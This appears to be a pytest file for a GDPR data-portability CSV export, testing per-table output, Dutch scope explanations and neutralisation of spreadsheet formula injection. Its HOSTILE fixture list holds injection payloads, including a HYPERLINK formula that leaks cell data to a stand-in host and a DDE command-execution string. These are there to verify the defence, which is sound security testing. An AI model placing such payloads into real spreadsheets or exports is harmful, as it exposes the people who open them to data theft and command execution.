"""Portability as CSV: one file per table, formula injection neutralised."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from dsar.exports import service
from dsar.exports.csv_export import neutralise
from tests.support.export_factories import make_job

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _zip(spec) -> zipfile.ZipFile:
    (export,) = service.generate(spec, ["csv"])
    return zipfile.ZipFile(io.BytesIO(service.read_file(export)))


def _rows(archive, name):
    with archive.open(name) as member:
        return list(csv.reader(io.TextIOWrapper(member, encoding="utf-8-sig", newline="")))


def test_it_writes_one_csv_per_table_with_only_what_article_20_covers(job, make_spec):
    archive = _zip(make_spec(job, kind="portability"))

    # The invoices are processed under a legal obligation only: not portable (Art. 20(1)(a)).
    assert sorted(archive.namelist()) == ["crm__customers.csv", "crm__notes.csv", "scope.csv"]
    customers = _rows(archive, "crm__customers.csv")
    assert customers[0] == ["record", "category", "name", "email", "city", "phone"]
    assert len(customers) == 2  # the derived score (not portable, Art. 20) is left out
    assert _rows(archive, "crm__notes.csv")[1][2] == "Belde over facturatie — vroeg naar korting één jaar"


def test_the_scope_file_says_per_category_what_is_in_the_copy_and_why(job, make_spec):
    archive = _zip(make_spec(job, kind="portability", language="nl"))

    header, *rows = _rows(archive, "scope.csv")
    assert header == ["category", "name", "records", "in_copy", "reason", "activities", "explanation"]
    by_category = {row[0]: row for row in rows}
    assert by_category["contact"][1:6] == [
        "Contactgegevens",
        "2",
        "true",
        "consent_or_contract",
        "customer-relations:contract",
    ]
    assert by_category["billing"][1:5] == ["Facturen en betalingen", "5", "false", "legal_basis"]
    assert by_category["scoring"][2:5] == ["1", "false", "not_provided"]
    assert "wettelijke verplichting" in by_category["billing"][6]


def test_it_neutralises_every_cell_a_spreadsheet_would_run_as_a_formula(db, make_spec):
    job = make_job(
        crm_records=[("customers", "contact", {f"field{i}": value for i, value in enumerate(HOSTILE)})],
        erp_records=[("=cmd", "contact", {"=header": "@x", "amount": -5, "ok": "plain text"})],
    )

    archive = _zip(make_spec(job, kind="portability"))

    customers = _rows(archive, "crm__customers.csv")
    assert customers[1][2:] == ["'" + value for value in HOSTILE]
    invoices = _rows(archive, "erp__cmd.csv")
    assert invoices[0] == ["record", "category", "'=header", "amount", "ok"]
    assert invoices[1][2:] == ["'@x", "-5", "plain text"]  # a real number stays a number
    for name in archive.namelist():
        for row in _rows(archive, name):
            assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)


def test_neutralise_leaves_ordinary_text_and_numbers_alone():
    assert neutralise("Sint-Niklaas") == "Sint-Niklaas"
    assert neutralise(3) == "3"
    assert neutralise(None) == ""
    assert neutralise({"a": "=1"}) == '{"a": "=1"}'
    assert neutralise("-1") == "'-1"
